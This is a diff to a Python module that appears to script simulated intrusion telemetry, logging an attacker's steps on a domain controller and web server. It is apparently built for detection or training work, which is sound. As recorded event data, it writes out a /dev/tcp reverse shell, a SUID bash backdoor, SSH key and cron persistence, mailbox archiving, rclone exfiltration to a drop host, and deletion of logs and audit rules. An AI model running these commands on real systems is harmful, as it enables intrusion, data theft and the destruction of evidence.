@@ -36,6 +36,7 @@ if TYPE_CHECKING:
 __all__ = ["spread"]
 
 _FROM = WORKSTATION.address
+_BACK_DOOR = "/var/lib/.systemd-cache"
 
 
 def spread(stage: Stage) -> None:
@@ -84,9 +85,12 @@ def _onto_the_controller(stage: Stage) -> tuple[Session, Process]:
         at(111.66), stage.dc_services, "C:\\Windows\\HVUpdate.exe", "C:\\Windows\\HVUpdate.exe"
     )
     shell = dc.start(
-        at(118.1), stage.dc_wmi, SYSTEM32 + "cmd.exe", "cmd.exe /Q /c quser 1> \\\\127.0.0.1\\C$\\Windows\\Temp\\o.txt 2>&1",
+        at(118.1),
+        stage.dc_wmi,
+        SYSTEM32 + "cmd.exe",
+        "cmd.exe /Q /c quser 1> \\\\127.0.0.1\\ADMIN$\\__1794 2>&1",
         session,
-    )  # fmt: skip
+    )
     dc.start(at(118.12), shell, SYSTEM32 + "quser.exe", "quser")
     return session, implant
 
@@ -151,13 +155,13 @@ def _on_the_web_server(stage: Stage) -> None:
         at(148.0), root, "/usr/bin/bash", "/root/.ssh/authorized_keys", flags=0x441, key="ssh_keys", made=True
     )
     web.opens(at(148.6), root, "/usr/bin/bash", "/etc/cron.d/dongbo", flags=0x241, key="cron", made=True)
-    web.runs(at(149.1), root, "/usr/bin/cp", "/bin/bash", "/var/tmp/.systemd-cache")
-    web.runs(at(149.2), root, "/usr/bin/chmod", "4755", "/var/tmp/.systemd-cache")
+    web.runs(at(149.1), root, "/usr/bin/cp", "/bin/bash", _BACK_DOOR)
+    web.runs(at(149.2), root, "/usr/bin/chmod", "4755", _BACK_DOOR)
     web.runs(at(150.0), root, "/usr/bin/bash", "-c", f"bash -i >& /dev/tcp/{CONTROL_ADDRESS}/443 0>&1")
     stage.net.link(
         at(150.0), WEB_SERVER.address, CONTROL_ADDRESS, 443, sent=21_400, received=8_800, seconds=1310
     )
-    web.runs(at(151.5), root, "/usr/bin/tar", "-czf", "/var/tmp/thu.tgz", "/var/vmail/haivan.example/lanhdao")
+    web.runs(at(151.5), root, "/usr/bin/tar", "-czf", "/root/thu.tgz", "/var/vmail/haivan.example/lanhdao")
     _through_the_name_server(stage)
     web.runs(at(171.0), root, "/usr/bin/rm", "-f", "/var/log/auth.log", "/var/log/apache2/access.log")
     web.runs(at(RULES_REMOVED), root, "/usr/sbin/auditctl", "-D")
@@ -181,14 +185,21 @@ def _through_the_name_server(stage: Stage) -> None:
 
 def _out(stage: Stage, session: Session, implant: Process) -> None:
     """10:35 to 10:52. The archive is copied to a server outside, 312 megabytes in four connections."""
-    command = f"C:\\PerfLogs\\rclone.exe copy C:\\PerfLogs\\hs.7z :webdav:/hv --webdav-url https://{DROP_NAME}/dav --transfers 4"
+    target = f":webdav:/hv --webdav-url https://{DROP_NAME}/dav --transfers 4"
+    command = f"C:\\PerfLogs\\rclone.exe copy C:\\PerfLogs\\hs.7z {target}"
     stage.dc.start(at(155.0), implant, "C:\\PerfLogs\\rclone.exe", command, session)
     stage.net.asks(at(155.05), CONTROLLER.address, DROP_NAME, DROP_ADDRESS, server="10.84.10.1")
     for part, size in enumerate((81_220_140, 79_806_512, 80_114_937, 71_002_448)):
         stage.net.link(
-            at(155.1 + part * 4.1), CONTROLLER.address, DROP_ADDRESS, 443, "ssl",
-            sent=size, received=188_000 + 911 * part, seconds=238 + part,
-        )  # fmt: skip
+            at(155.1 + part * 4.1),
+            CONTROLLER.address,
+            DROP_ADDRESS,
+            443,
+            "ssl",
+            sent=size,
+            received=188_000 + 911 * part,
+            seconds=238 + part,
+        )
 
 
 def _covering_tracks(stage: Stage, session: Session, implant: Process) -> None:
